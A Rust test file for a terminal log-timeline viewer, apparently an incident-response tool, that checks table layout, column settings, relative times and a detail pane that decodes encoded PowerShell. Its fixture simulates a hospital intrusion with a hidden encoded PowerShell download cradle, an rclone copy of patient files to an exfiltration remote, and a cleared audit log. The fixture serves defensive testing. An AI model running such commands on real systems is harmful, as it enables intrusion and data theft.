//! The table at 80, 120 and 200 columns, and what changes it: day separators, hosts that
//! must stay apart, network rows, the wrap and scroll of the message, the column chooser
//! (kept in the case), the relative-time column; and the detail pane's order, codes,
//! decoded payloads and copies.

use super::*;
use crate::tui::state::{DetailLine, Mode, Msg, PromptKind};

/// A hospital's night: two reception desks, a file server named two ways, a firewall
/// with bytes counted, an encoded PowerShell, a failed logon with its message-table code,
/// and the next morning.
pub const NIGHT: &str = "\
2026-03-13T21:58:00Z|WS-RECEPTION-01.klinikum-see.local|4624|4624 logon type 3 by KLINIKUM\\m.keller|user=KLINIKUM\\m.keller;LogonType=3;ImpersonationLevel=%%1833
2026-03-13T21:59:00Z|WS-RECEPTION-02.klinikum-see.local|4625|4625 failed logon KLINIKUM\\admin|user=KLINIKUM\\admin;FailureReason=%%2313
2026-03-13T22:00:00Z|WS-RECEPTION-01.klinikum-see.local|1|Sysmon 1 process C:\\Windows\\System32\\cmd.exe: cmd.exe /c powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA|process=cmd.exe;parent=WINWORD.EXE;cmdline=cmd.exe /c powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA;user=KLINIKUM\\m.keller
2026-03-13T22:00:05Z|FG-PERIMETER|13|close tcp 10.20.1.21:52797 -> 185.225.73.18:443 (policy 12)|src_ip=10.20.1.21;src_port=52797;dst_ip=185.225.73.18;dst_port=443;proto=tcp;action=close;sentbyte=1300;rcvdbyte=5242880
2026-03-13T22:00:06Z|ws-reception-01.klinikum-see.local|ConnectionSuccess|network ConnectionSuccess \"powershell.exe\" -nop -w hidden -c IEX(New-Object Net.WebClient) 10.20.1.21:52800 -> 185.225.73.18:443 user m.keller|src_ip=10.20.1.21;src_port=52800;dst_ip=185.225.73.18;dst_port=443;action=ConnectionSuccess;user=m.keller
2026-03-13T23:30:00Z|FS-01|ProcessRollup2|process C:\\Windows\\System32\\rclone.exe copy D:\\Patienten remote:exfil user adm.schneider|process=rclone.exe;user=adm.schneider
2026-03-14T06:00:00Z|FS-01.klinikum-see.local|1102|1102 The audit log was cleared|user=KLINIKUM\\adm.schneider
";

fn night(w: u16, h: u16) -> App {
    let t = Arc::new(Timeline::from_test_lines(&[("ev/night.log", NIGHT)]));
    state_with(t, w, h)
}

fn snap(name: &str, st: &State) {
    insta::assert_snapshot!(name, draw(st).backend());
}

#[test]
fn the_table_at_80_120_and_200_columns() {
    for (w, h) in [(80, 24), (120, 24), (200, 24)] {
        let mut st = night(w, h);
        keys(&mut st, "jjj");
        snap(&format!("table_{w}x{h}"), &st);
    }
    let st = night(60, 16);
    snap("table_60x16", &st);
}

#[test]
fn at_80_columns_a_row_says_what_happened() {
    let st = night(80, 24);
    let lines = screen(&st);
    let table = lines.join("\n");
    // The message keeps 40 cells; the id is not said twice.
    let logon = lines.iter().find(|l| l.contains("21:58:00.000")).unwrap();
    assert!(logon.contains(" 4624  logon type 3 by KLINIKUM"), "{logon}");
    // Hosts lose their domain and stay apart.
    assert!(table.contains("WS-RECEP…-01"), "{table}");
    assert!(table.contains("WS-RECEP…-02"), "{table}");
    // A network row: where to, first; FortiGate bytes.
    let fw = lines.iter().find(|l| l.contains("22:00:05.000")).unwrap();
    assert!(
        fw.contains("10.20.1.21 → 185.225.73.18:443 tcp close"),
        "{fw}"
    );
    // The bytes follow (on screen from 120 columns, or scrolled to).
    let wide = screen(&night(120, 24));
    let fw = wide.iter().find(|l| l.contains("22:00:05.000")).unwrap();
    assert!(
        fw.contains("10.20.1.21 → 185.225.73.18:443 tcp close ↑1.3K ↓5.0M"),
        "{fw}"
    );
    let mde = lines.iter().find(|l| l.contains("22:00:06.000")).unwrap();
    // Its id is cut in the id column, so the message says it.
    assert!(mde.contains("10.20.1.21 → 185.225.73.18:443 Conn"), "{mde}");
    // The next day has a separator row and the date heads the time column.
    assert!(lines[3].contains("2026-03-13"), "{}", lines[3]);
    let sep = lines.iter().find(|l| l.contains("Saturday 14 March 2026"));
    assert!(
        sep.is_some_and(|l| l.contains("    2026-03-14   ───")),
        "{table}"
    );
}

#[test]
fn the_message_scrolls_sideways_and_the_selected_row_wraps() {
    let mut st = night(80, 24);
    keys(&mut st, "jj");
    let row = |st: &App| {
        screen(st)
            .into_iter()
            .find(|l| l.contains("22:00:00.000"))
            .unwrap()
    };
    assert!(row(&st).contains("process C:\\Windows"), "{}", row(&st));
    keys(&mut st, "l");
    assert!(st.table.hscroll > 0);
    assert!(!row(&st).contains("process C:\\Windows"), "{}", row(&st));
    assert!(screen(&st)[3].contains("message (+"), "{}", screen(&st)[3]);
    keys(&mut st, "hh");
    assert_eq!(st.table.hscroll, 0);
    keys(&mut st, "w");
    assert!(st.row_height(st.table.cursor) > 1);
    let text = screen(&st).join("\n");
    assert!(
        text.contains("AGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"),
        "the whole message: {text}"
    );
    // Moving keeps the wrap on the selected row only, and the row on screen.
    keys(&mut st, "G");
    assert!(st.table_lines().iter().any(|l| matches!(
        l,
        crate::tui::layout::TableLine::Row { row, .. } if *row == st.table.cursor
    )));
    keys(&mut st, "w");
    assert_eq!(st.row_height(st.table.cursor), 1);
}

#[test]
fn columns_are_chosen_and_kept_in_the_case() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("c.vigil.json");
    let mut st = night(80, 24);
    keys(&mut st, "C");
    assert_eq!(st.mode, Mode::Columns);
    // Hide the source, show the relative time.
    keys(&mut st, " jjj <Esc>");
    assert_eq!(st.mode, Mode::Normal);
    assert_eq!(st.table.cols.to_text(), "time,host,id,rel,message");
    let head = screen(&st)[3].clone();
    assert!(head.contains("Δprev") && !head.contains("src"), "{head}");
    let row = screen(&st)
        .into_iter()
        .find(|l| l.contains("21:59:00.000"))
        .unwrap();
    assert!(row.contains("+1m00s"), "{row}");
    keys(&mut st, ":cols time host message<Enter>");
    assert_eq!(st.table.cols.to_text(), "time,host,message");
    keys(&mut st, ":cols time colour<Enter>");
    assert!(matches!(&st.msg, Some(Msg::Error(m)) if m.contains("unknown column")));
    // Saved with the case, back when it is reopened.
    st.open_prompt(PromptKind::CasePath, &path.display().to_string());
    st.case.then = Some(crate::tui::state::Then::Save);
    keys(&mut st, "<Enter>");
    let file = crate::case::CaseFile::load(&path).unwrap();
    assert_eq!(file.view.extra["columns"], "time,host,message");
    let mut again = night(80, 24);
    let (case, report) = crate::case::Case::open(&path, "t").unwrap();
    let opened = again.fx.adopt_case(case, report);
    again.apply(opened);
    assert_eq!(again.table.cols.to_text(), "time,host,message");
}

#[test]
fn the_relative_column_measures_from_the_row_above_or_an_annotation() {
    let dir = tempfile::tempdir().unwrap();
    let mut st = night(120, 24);
    keys(&mut st, "r");
    assert!(st.table.cols.rel);
    keys(&mut st, "r");
    assert!(
        !st.table.cols.rel,
        "without an annotation the next step is off"
    );
    // An early-detection point on the PowerShell row.
    keys(&mut st, "jjm");
    st.open_prompt(
        PromptKind::CasePath,
        &dir.path().join("r.vigil.json").display().to_string(),
    );
    keys(&mut st, "<Enter>h");
    keys(&mut st, "rr");
    let head = screen(&st)[3].clone();
    assert!(head.contains("Δann"), "{head}");
    let row = |st: &App, at: &str| screen(st).into_iter().find(|l| l.contains(at)).unwrap();
    assert!(row(&st, "21:58:00.000").contains("-2m00s"));
    assert!(row(&st, "23:30:00.000").contains("+1h30m"));
    keys(&mut st, "r");
    assert!(!st.table.cols.rel);
}

#[test]
fn the_detail_pane_leads_with_what_happened_and_copies_values_as_they_are() {
    let mut st = night(80, 40);
    keys(&mut st, "jj<Enter>");
    let d = st.detail.lines.clone().unwrap();
    let names: Vec<&str> = d
        .lines
        .iter()
        .filter_map(|l| match l {
            DetailLine::Field(k, _) => Some(k.as_str()),
            _ => None,
        })
        .collect();
    assert_eq!(
        &names[..6],
        [
            "message",
            "cmdline",
            "  ↳ decoded -enc",
            "user",
            "host",
            "process"
        ]
    );
    assert!(names.contains(&"parent"));
    let decoded = d
        .lines
        .iter()
        .find_map(|l| match l {
            DetailLine::Field(k, v) if k.contains("decoded") => Some(v.clone()),
            _ => None,
        })
        .unwrap();
    assert_eq!(decoded, "IEX (New-Object Net.WebClient)");
    // Focus, select the command line, copy it: OSC 52 with the value as it is.
    keys(&mut st, "<Tab>jjy");
    assert!(matches!(&st.msg, Some(Msg::Info(m)) if m.contains("copied cmdline")));
    let out = st.fx.osc.clone().unwrap();
    let seq = String::from_utf8(out.lock().unwrap().clone()).unwrap();
    use base64::Engine;
    let b64 = seq
        .strip_prefix("\u{1b}]52;c;")
        .and_then(|s| s.strip_suffix('\u{7}'))
        .unwrap();
    let copied = base64::engine::general_purpose::STANDARD
        .decode(b64)
        .unwrap();
    assert!(
        String::from_utf8(copied)
            .unwrap()
            .starts_with("cmd.exe /c powershell -nop")
    );
    // Message-table codes show their words.
    keys(&mut st, "<Tab><Esc>kk");
    assert!(st.detail.open);
    let text = format!("{:?}", st.detail.lines.as_ref().unwrap().lines);
    assert!(text.contains("%%1833 (Impersonation)"), "{text}");
    keys(&mut st, "j");
    let text = format!("{:?}", st.detail.lines.as_ref().unwrap().lines);
    assert!(
        text.contains("%%2313 (Unknown user name or bad password.)"),
        "{text}"
    );
}

#[test]
fn the_detail_pane_wraps_long_values_under_themselves() {
    let mut st = night(80, 30);
    keys(&mut st, "jj<Enter>");
    let lines = screen(&st);
    let at = lines
        .iter()
        .position(|l| l.contains("cmdline "))
        .expect("cmdline shown");
    // The value goes on on the next lines, under itself, to its last character.
    assert!(
        lines[at + 1].starts_with(&" ".repeat(23)),
        "{}",
        lines.join("\n")
    );
    let text: String = lines[at..at + 4].iter().map(|l| l.trim()).collect();
    assert!(
        text.contains("AFcAZQBiAEMAbABpAGUAbgB0ACkA"),
        "{}",
        lines.join("\n")
    );
}

#[test]
fn the_detail_pane_keeps_its_place_between_events_of_a_kind() {
    let mut st = state(80, 30);
    // Two firewall rows of the same kind (test format, action tag `5156`).
    let at = st.rows() - 5;
    st.table.cursor = at;
    keys(&mut st, "<Enter><Tab>jjj");
    assert_eq!(st.detail.sel, 3);
    keys(&mut st, "<Tab><Tab>j");
    assert_eq!(st.detail.sel, 3, "same kind: same place");
    // Another kind starts at the top.
    keys(&mut st, "G");
    assert_eq!((st.detail.sel, st.detail.scroll), (0, 0));
}

#[test]
fn a_and_m_on_an_annotated_event_both_edit_it() {
    let dir = tempfile::tempdir().unwrap();
    let mut st = night(80, 24);
    keys(&mut st, "a");
    st.open_prompt(
        PromptKind::CasePath,
        &dir.path().join("a.vigil.json").display().to_string(),
    );
    keys(&mut st, "<Enter>2<Enter>recon<F2>");
    let anns = st.case.annotations().to_vec();
    assert_eq!(anns.len(), 1);
    // `m` on it: the same annotation, now an early-detection point, tags kept.
    keys(&mut st, "mc");
    let after = st.case.annotations().to_vec();
    assert_eq!(after.len(), 1, "edited, not added");
    assert_eq!(after[0].id, anns[0].id);
    assert_eq!(after[0].kind, crate::case::Kind::EarlyDetection);
    assert_eq!(after[0].tags, ["recon"]);
    // `a` on it: its form, pre-filled.
    keys(&mut st, "a");
    assert!(st.form.as_ref().is_some_and(|f| f.editing));
    keys(&mut st, "<Esc>");
    // The list shows the host.
    keys(&mut st, "A");
    let text = screen(&st).join("\n");
    assert!(text.contains("WS-RECEPTION-01 early-detection"), "{text}");
}
